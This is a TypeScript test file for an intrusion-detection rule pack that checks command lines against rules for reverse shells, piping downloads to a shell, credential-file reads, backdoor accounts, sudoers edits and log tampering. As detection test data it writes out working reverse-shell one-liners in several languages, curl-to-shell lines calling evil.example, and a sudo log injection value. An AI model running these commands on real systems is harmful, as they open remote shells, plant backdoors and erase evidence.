import { describe, expect, it } from 'vitest';
import type { CommandEvent } from '../../src/sources/command-event.js';
import { loadDefaultRules } from '../../src/detect/load-rules.js';
import { makeEvent, shellEvent } from './make-event.js';

const rules = loadDefaultRules();

type Case = [rule: string, event: CommandEvent];

/** Command lines that must hit the named rule. */
const POSITIVE: Case[] = [
  ['shadow-read', makeEvent('cat /etc/shadow')],
  ['shadow-read', makeEvent('/usr/bin/less /etc/gshadow')],
  ['shadow-read', makeEvent('grep alice /etc/shadow')],
  ['shadow-read', makeEvent('cp /etc/shadow /tmp/s')],
  ['shadow-read', makeEvent('base64 /etc/shadow-')],
  ['shadow-read', makeEvent('dd if=/etc/shadow of=/tmp/x')],
  ['shadow-read', makeEvent('cat //etc//shadow')],
  ['shadow-read', makeEvent('xxd /tmp/../etc/shadow')],
  ['shadow-read', makeEvent('cat shadow', { cwd: '/etc' })],
  ['shadow-read', makeEvent('unshadow /etc/passwd /tmp/s')],
  ['shadow-read', makeEvent(['busybox', 'cat', '/etc/shadow'])],
  ['password-cracking-tool', makeEvent('john --wordlist=rockyou.txt hashes.txt')],
  ['password-cracking-tool', makeEvent('hashcat -m 1800 hashes.txt rockyou.txt')],
  ['reverse-shell', makeEvent('nc -e /bin/sh 10.0.0.1 4444')],
  ['reverse-shell', makeEvent('ncat 10.0.0.1 4444 --sh-exec /bin/bash')],
  ['reverse-shell', makeEvent('nc -lvnpe 4444 /bin/sh')],
  ['reverse-shell', makeEvent('socat exec:/bin/bash,pty,stderr,setsid tcp:10.0.0.1:4444')],
  ['reverse-shell', makeEvent(['python3', '-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'])],
  ['reverse-shell', makeEvent(['python', '-c', 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'])],
  ['reverse-shell', makeEvent(['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4242,inet_aton("10.0.0.1")))){open(STDIN,">&S");exec("/bin/sh -i");};'])],
  ['reverse-shell', makeEvent(['php', '-r', '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'])],
  ['reverse-shell', makeEvent(['ruby', '-rsocket', '-e', 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'])],
  ['reverse-shell-dev-tcp', shellEvent('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')],
  ['reverse-shell-dev-tcp', shellEvent('0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196', {}, 'bash')],
  ['reverse-shell-dev-tcp', shellEvent('exec 5<>/dev/tcp/10.0.0.1/80;cat <&5 | while read line; do $line 2>&5 >&5; done', {}, 'bash')],
  ['reverse-shell-dev-tcp', shellEvent('cat < /dev/tcp/10.0.0.1/8000 | bash')],
  ['dev-tcp-connection', shellEvent('timeout 1 bash -c </dev/tcp/db-1/5432', {}, 'bash')],
  ['netcat-listener', makeEvent('nc -lvnp 4444')],
  ['netcat-listener', makeEvent('ncat --listen 8080')],
  ['netcat-listener', makeEvent('nc -l -p 9001')],
  ['netcat-listener', makeEvent('socat TCP-LISTEN:4444,reuseaddr,fork STDOUT')],
  ['netcat-listener', makeEvent(['busybox', 'nc', '-lp', '4444'])],
  ['download-piped-to-shell', shellEvent('curl -fsSL https://evil.example/install.sh | sh')],
  ['download-piped-to-shell', shellEvent('wget -O- http://10.0.0.1/x | bash')],
  ['download-piped-to-shell', shellEvent('curl -s https://x.example/a?b=1&c=2 | sudo -E bash -')],
  ['download-piped-to-shell', shellEvent('curl https://x.example/s.py | python3')],
  ['download-piped-to-shell', shellEvent('bash <(curl -s https://x.example/i.sh)', {}, 'bash')],
  ['download-piped-to-shell', shellEvent('wget -qO - https://x.example/i | /bin/bash -s -- --yes')],
  ['base64-piped-to-shell', shellEvent('echo Y3VybCBldmls | base64 -d | bash')],
  ['base64-piped-to-shell', shellEvent('base64 --decode payload.b64 | sh')],
  ['user-account-created', makeEvent('useradd -m -s /bin/bash eve')],
  ['user-account-created', makeEvent('adduser eve')],
  ['uid-zero-account', makeEvent('useradd -o -u 0 toor')],
  ['uid-zero-account', makeEvent('usermod -u 0 bob')],
  ['uid-zero-account', makeEvent('useradd --uid=0 -o toor')],
  ['uid-zero-account', makeEvent('usermod -ou 0 bob')],
  ['user-added-to-admin-group', makeEvent('usermod -aG sudo bob')],
  ['user-added-to-admin-group', makeEvent('usermod -a -G docker,wheel bob')],
  ['user-added-to-admin-group', makeEvent('gpasswd -a bob sudo')],
  ['passwd-file-write', shellEvent("echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd")],
  ['passwd-file-write', makeEvent('tee -a /etc/passwd')],
  ['passwd-file-write', makeEvent('cp /tmp/evil-shadow /etc/shadow')],
  ['passwd-file-write', makeEvent('install -m 600 /tmp/p /etc/passwd')],
  ['passwd-file-write', makeEvent(['sed', '-i', 's/^bob:x:1001/bob:x:0/', '/etc/passwd'])],
  ['sudoers-modified', shellEvent("echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")],
  ['sudoers-modified', shellEvent("echo 'bob ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/bob")],
  ['sudoers-modified', makeEvent('tee /etc/sudoers.d/90-bob')],
  ['audit-disabled', makeEvent('systemctl stop auditd')],
  ['audit-disabled', makeEvent('systemctl mask auditd.service')],
  ['audit-disabled', makeEvent('service auditd stop')],
  ['audit-disabled', makeEvent('auditctl -e 0')],
  ['audit-disabled', makeEvent('auditctl -D')],
  ['audit-disabled', makeEvent('pkill auditd')],
  ['log-tampering', makeEvent('truncate -s 0 /var/log/auth.log')],
  ['log-tampering', makeEvent('shred -u /var/log/audit/audit.log')],
  ['log-tampering', makeEvent('rm -rf /var/log/audit')],
  ['log-tampering', makeEvent('ln -sf /dev/null /var/log/wtmp')],
  ['log-tampering', shellEvent('cat /dev/null > /var/log/secure')],
  ['log-tampering', shellEvent('echo > /var/log/audit/audit.log')],
  ['shell-history-tampering', shellEvent('history -c')],
  ['shell-history-tampering', shellEvent('unset HISTFILE; id', {}, 'bash')],
  ['shell-history-tampering', shellEvent('export HISTFILE=/dev/null')],
  ['shell-history-tampering', shellEvent('HISTSIZE=0 bash')],
  ['shell-history-tampering', shellEvent('set +o history')],
  ['shell-history-tampering', shellEvent('> ~/.bash_history')],
  ['shell-history-tampering', makeEvent('ln -sf /dev/null /home/alice/.bash_history')],
  ['shell-history-tampering', makeEvent('rm -f /root/.zsh_history')],
  ['setuid-shell', makeEvent('chmod u+s /bin/bash')],
  ['setuid-shell', makeEvent('chmod 4755 /usr/bin/python3')],
  ['setuid-shell', makeEvent('chmod +s /usr/bin/find')],
  ['setuid-shell', makeEvent('chmod 04755 /tmp/rootme')],
  ['setuid-shell', makeEvent('chmod u=rwxs,go=rx /bin/sh')],
  ['dangerous-capability', makeEvent('setcap cap_setuid+ep /usr/bin/python3')],
  ['packet-capture', makeEvent('tcpdump -i eth0 -w /tmp/cap.pcap port 443')],
  ['packet-capture', makeEvent('tshark -i any')],
  ['packet-capture', makeEvent('dumpcap -i eth0')],
  ['sudo-denied', makeEvent('/bin/ls /root', { sudoDenied: true, denialReason: 'user NOT in sudoers', sourceFormat: 'sudo' })],
  // ` ; COMMAND=` planted in a directory name: the planted command is read first, the real one follows.
  ['sudo-log-field-injection', makeEvent('/bin/true ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow', { sourceFormat: 'sudo' })],
  ['sudo-log-field-injection', makeEvent('/bin/true ; COMMAND=/usr/bin/id', { sourceFormat: 'sudo-journald' })],
  ['sudo-log-field-injection', makeEvent(['/bin/echo', "x ; COMMAND=/usr/bin/id"], { sourceFormat: 'sudo' })],
  ['immutable-attribute-removed', makeEvent('chattr -i /etc/passwd')],
  ['immutable-attribute-removed', makeEvent('chattr -ia /var/log/secure')],
  ['ssh-authorized-keys-modified', shellEvent('echo ssh-ed25519 AAAAC3Nz attacker >> /root/.ssh/authorized_keys')],
  ['ssh-authorized-keys-modified', makeEvent('tee -a /home/bob/.ssh/authorized_keys')],
  ['ssh-authorized-keys-modified', makeEvent('curl -o /root/.ssh/authorized_keys https://x.example/k')],
  ['security-module-disabled', makeEvent('setenforce 0')],
  ['security-module-disabled', makeEvent('setenforce Permissive')],
  ['security-module-disabled', makeEvent('systemctl disable apparmor')],
  ['security-module-disabled', makeEvent('aa-teardown')],
  ['security-module-disabled', makeEvent(['sed', '-i', 's/^SELINUX=enforcing/SELINUX=disabled/', '/etc/selinux/config'])],
  ['kernel-module-loaded', makeEvent('insmod /tmp/rootkit.ko')],
  ['root-crontab-modified', shellEvent('(crontab -l; echo "* * * * * /tmp/x") | crontab -')],
  ['root-crontab-modified', shellEvent('echo "* * * * * root /tmp/x" >> /etc/crontab')],
  ['root-crontab-modified', shellEvent('echo "@reboot /tmp/x" > /etc/cron.d/update')],
  ['root-crontab-modified', makeEvent('crontab -e')],
  ['root-crontab-modified', makeEvent('crontab /tmp/jobs')],
  ['firewall-disabled', makeEvent('iptables -F')],
  ['firewall-disabled', makeEvent('ip6tables --flush INPUT')],
  ['firewall-disabled', makeEvent('nft flush ruleset')],
  ['firewall-disabled', makeEvent('ufw disable')],
  ['firewall-disabled', makeEvent('systemctl stop firewalld')],
  ['ld-preload-modified', shellEvent('echo /tmp/libhook.so > /etc/ld.so.preload')],
  ['ld-preload-modified', makeEvent('tee /etc/ld.so.preload')],
];

/** Look-alikes that must not hit the named rule. */
const NEGATIVE: Case[] = [
  ['shadow-read', makeEvent('ls -l /etc/shadow')],
  ['shadow-read', makeEvent('vim /etc/shadowsocks/config.json')],
  ['shadow-read', makeEvent('cat shadow', { cwd: '/home/alice' })],
  ['shadow-read', makeEvent('passwd alice')],
  ['password-cracking-tool', makeEvent('johnny --help')],
  ['reverse-shell', makeEvent('nc -zv db-1 5432')],
  ['reverse-shell', makeEvent(['python3', '-c', 'import socket; print(socket.gethostname())'])],
  ['reverse-shell', makeEvent('socat UNIX-LISTEN:/tmp/s,fork TCP:localhost:5432')],
  ['reverse-shell-dev-tcp', shellEvent('timeout 1 bash -c </dev/tcp/db-1/5432', {}, 'bash')],
  ['reverse-shell-dev-tcp', shellEvent('exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\\n" >&3; cat <&3', {}, 'bash')],
  ['dev-tcp-connection', shellEvent('ls /dev/tty1')],
  ['netcat-listener', makeEvent('nc -zv db-1 5432')],
  ['netcat-listener', makeEvent('nc -w 3 example.com 80')],
  ['netcat-listener', makeEvent('socat UNIX-LISTEN:/run/app.sock,fork TCP:localhost:8080')],
  ['download-piped-to-shell', shellEvent('curl -s https://api.example/v1/x | jq .')],
  ['download-piped-to-shell', shellEvent('wget -qO- https://x.example/a.tgz | tar xz')],
  ['download-piped-to-shell', shellEvent('curl -fsSL https://x.example/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/x.gpg')],
  ['download-piped-to-shell', shellEvent('curl -sO https://x.example/SHA256SUMS | sha256sum -c')],
  ['download-piped-to-shell', shellEvent('curl -s https://x.example/install.sh | shellcheck -')],
  ['download-piped-to-shell', shellEvent('curl -fsSL https://x.example/install.sh -o install.sh')],
  ['download-piped-to-shell', makeEvent('curl https://x.example/ | sh')],
  ['base64-piped-to-shell', shellEvent('echo aGVsbG8= | base64 -d')],
  ['base64-piped-to-shell', shellEvent('base64 -d cert.b64 > cert.pem')],
  ['user-account-created', makeEvent('id alice')],
  ['user-account-created', makeEvent('userdel -r eve')],
  ['uid-zero-account', makeEvent('useradd -u 1001 eve')],
  ['uid-zero-account', makeEvent('usermod -u 2000 bob')],
  ['user-added-to-admin-group', makeEvent('usermod -aG docker bob')],
  ['user-added-to-admin-group', makeEvent('usermod -s /bin/zsh sudoer')],
  ['passwd-file-write', makeEvent('grep root /etc/passwd')],
  ['passwd-file-write', shellEvent('getent passwd alice > /tmp/passwd')],
  ['passwd-file-write', makeEvent('sed -n 1p /etc/passwd')],
  // Copying the file elsewhere only reads it (shadow-read says so); it is no write.
  ['passwd-file-write', makeEvent('cp /etc/shadow /srv/archive/shadow.copy')],
  ['sudoers-modified', makeEvent('visudo -c')],
  ['sudoers-modified', makeEvent('cat /etc/sudoers')],
  ['audit-disabled', makeEvent('systemctl status auditd')],
  ['audit-disabled', makeEvent('systemctl restart auditd')],
  ['audit-disabled', makeEvent('systemctl stop nginx')],
  ['audit-disabled', makeEvent('auditctl -l')],
  ['audit-disabled', makeEvent('auditctl -e 1')],
  ['log-tampering', makeEvent('tail -f /var/log/auth.log')],
  ['log-tampering', makeEvent('rm /var/log/nginx/access.log.3.gz')],
  ['log-tampering', shellEvent('echo started >> /var/log/syslog')],
  ['log-tampering', shellEvent('./job.sh > /var/log/job.log 2>&1')],
  ['shell-history-tampering', shellEvent('history | tail -20', {}, 'bash')],
  ['shell-history-tampering', makeEvent('cat /home/alice/.bash_history')],
  ['shell-history-tampering', shellEvent('echo $HISTFILE')],
  ['setuid-shell', makeEvent('chmod 755 /bin/bash')],
  ['setuid-shell', makeEvent('chmod +x deploy.sh')],
  ['setuid-shell', makeEvent('chmod 2775 /srv/shared')],
  ['setuid-shell', makeEvent('chmod u+s /usr/local/bin/vendor-tool')],
  ['dangerous-capability', makeEvent('setcap cap_net_bind_service=+ep /usr/bin/node')],
  ['packet-capture', makeEvent('tcpdump -D')],
  ['packet-capture', makeEvent('tshark --version')],
  ['sudo-denied', makeEvent('/bin/ls /root', { sudoDenied: false, sourceFormat: 'sudo' })],
  ['sudo-log-field-injection', makeEvent('/bin/true ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow', { sourceFormat: 'auditd' })],
  ['sudo-log-field-injection', makeEvent('/usr/bin/make COMMAND=build', { sourceFormat: 'sudo' })],
  ['sudo-log-field-injection', makeEvent('/usr/bin/find . -name x -exec rm {} ;', { sourceFormat: 'sudo' })],
  ['immutable-attribute-removed', makeEvent('chattr +i /etc/resolv.conf')],
  ['immutable-attribute-removed', makeEvent('lsattr /etc/passwd')],
  ['ssh-authorized-keys-modified', makeEvent('cat /home/alice/.ssh/authorized_keys')],
  ['ssh-authorized-keys-modified', makeEvent('chmod 600 /home/alice/.ssh/authorized_keys')],
  ['ssh-authorized-keys-modified', makeEvent('ssh-keygen -l -f /home/alice/.ssh/authorized_keys')],
  ['security-module-disabled', makeEvent('setenforce 1')],
  ['security-module-disabled', makeEvent('getenforce')],
  ['security-module-disabled', makeEvent('systemctl status apparmor')],
  ['kernel-module-loaded', makeEvent('modprobe br_netfilter')],
  ['kernel-module-loaded', makeEvent('lsmod')],
  ['root-crontab-modified', makeEvent('crontab -l')],
  ['root-crontab-modified', makeEvent('crontab -e', { runAs: 'alice' })],
  ['root-crontab-modified', shellEvent('(crontab -l; echo "* * * * * ~/x") | crontab -', { runAs: 'alice' })],
  ['firewall-disabled', makeEvent('iptables -L -n')],
  ['firewall-disabled', makeEvent('iptables -A INPUT -p tcp --dport 22 -j ACCEPT')],
  ['firewall-disabled', makeEvent('ufw allow 22')],
  ['firewall-disabled', makeEvent('nft list ruleset')],
  ['ld-preload-modified', makeEvent('cat /etc/ld.so.preload')],
  ['ld-preload-modified', makeEvent('ldconfig')],
];

/** Everyday commands that must hit nothing at all. */
const BENIGN: CommandEvent[] = [
  makeEvent('grep root /etc/passwd'),
  makeEvent('ls -la /home/alice'),
  makeEvent('git commit -m fix'),
  makeEvent('systemctl restart nginx'),
  makeEvent('journalctl -u nginx --since today'),
  makeEvent('tail -n 100 /var/log/syslog'),
  makeEvent('docker run -p 8080:80 nginx'),
  makeEvent('kubectl get pods -A'),
  makeEvent('tar czf /backup/etc.tgz /etc'),
  makeEvent('psql -h db-1 -U app app'),
  makeEvent('ssh db-1 uptime'),
  makeEvent('mkdir -p /srv/app/releases'),
  makeEvent('chmod 644 /etc/nginx/nginx.conf'),
  makeEvent('apt-get install -y htop'),
  makeEvent('vim /etc/hosts'),
  makeEvent('python3 manage.py migrate'),
  makeEvent('curl -fsSL https://example.com/health'),
  shellEvent('cd /srv/app && git pull && npm ci'),
  shellEvent('echo ok > /tmp/status'),
  shellEvent('tar czf - /srv/data | ssh backup-1 "cat > /backups/data.tgz"'),
];

describe('default rule pack', () => {
  it('loads and has ATT&CK ids and a severity on every rule', () => {
    expect(rules.size).toBeGreaterThanOrEqual(20);
    for (const spec of rules.specs) {
      expect(spec.attack.length, spec.id).toBeGreaterThan(0);
      expect(['low', 'medium', 'high', 'critical']).toContain(spec.severity);
    }
  });

  it('has positive and negative examples for every rule', () => {
    const ids = rules.specs.map((spec) => spec.id);
    expect(new Set(POSITIVE.map(([id]) => id))).toEqual(new Set(ids));
    expect(new Set(NEGATIVE.map(([id]) => id))).toEqual(new Set(ids));
  });

  it.each(POSITIVE.map(([rule, event]) => [rule, event.command, event] as const))('%s hits: %s', (rule, _command, event) => {
    expect(rules.matchAll(event).map((hit) => hit.ruleId)).toContain(rule);
    expect(rules.match(event)).not.toBeNull();
  });

  it.each(NEGATIVE.map(([rule, event]) => [rule, event.command, event] as const))('%s does not hit: %s', (rule, _command, event) => {
    expect(rules.matchAll(event).map((hit) => hit.ruleId)).not.toContain(rule);
  });

  it.each(BENIGN.map((event) => [event.command, event] as const))('benign command hits nothing: %s', (_command, event) => {
    expect(rules.matchAll(event)).toEqual([]);
    expect(rules.match(event)).toBeNull();
  });

  it('prefers the most severe rule: nc -e is a reverse shell, not just a listener', () => {
    const event = makeEvent('nc -lvnp 4444 -e /bin/sh');
    expect(rules.matchAll(event).map((hit) => hit.ruleId)).toEqual(['reverse-shell', 'netcat-listener']);
    expect(rules.match(event)?.ruleId).toBe('reverse-shell');
  });

  it('reports the observe-only /dev/tcp rule without alerting', () => {
    const hit = rules.match(shellEvent('timeout 1 bash -c </dev/tcp/db-1/5432', {}, 'bash'));
    expect(hit).toEqual({ ruleId: 'dev-tcp-connection', ruleName: 'Shell opened a /dev/tcp connection', severity: 'low', attack: ['T1095'], mode: 'observe', alwaysAsk: false });
  });

  it('lets an alert rule outrank an observe rule on the same event', () => {
    expect(rules.match(shellEvent('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'))?.ruleId).toBe('reverse-shell-dev-tcp');
  });

  it('handles hostile and degenerate events without throwing', () => {
    const hostile = [
      makeEvent([]),
      makeEvent(['']),
      makeEvent(['cat', '/etc/shadow\u0000', '<!channel>', '<script>alert(1)</script>', '\uD800\uDFFF\uD800']),
      makeEvent(['sh', '-c', `${'x'.repeat(1_000_000)} | sh`]),
      makeEvent(['cat', ...Array.from({ length: 20_000 }, (_, i) => `/tmp/f${i}`)]),
      makeEvent('cat /etc/shadow', { exe: null, cwd: null, user: null, runAs: null, host: '' }),
    ];
    for (const event of hostile) expect(() => rules.matchAll(event)).not.toThrow();
  });

  it('matches a 50,000-event mix (speed is measured by the benchmarks)', () => {
    const mix = [...BENIGN, ...POSITIVE.map(([, event]) => event)];
    const events = Array.from({ length: 50_000 }, (_, i) => mix[i % mix.length] as CommandEvent);
    let hits = 0;
    for (const event of events) if (rules.match(event)) hits += 1;
    expect(hits).toBe(events.filter((_, i) => i % mix.length >= BENIGN.length).length);
  });
});
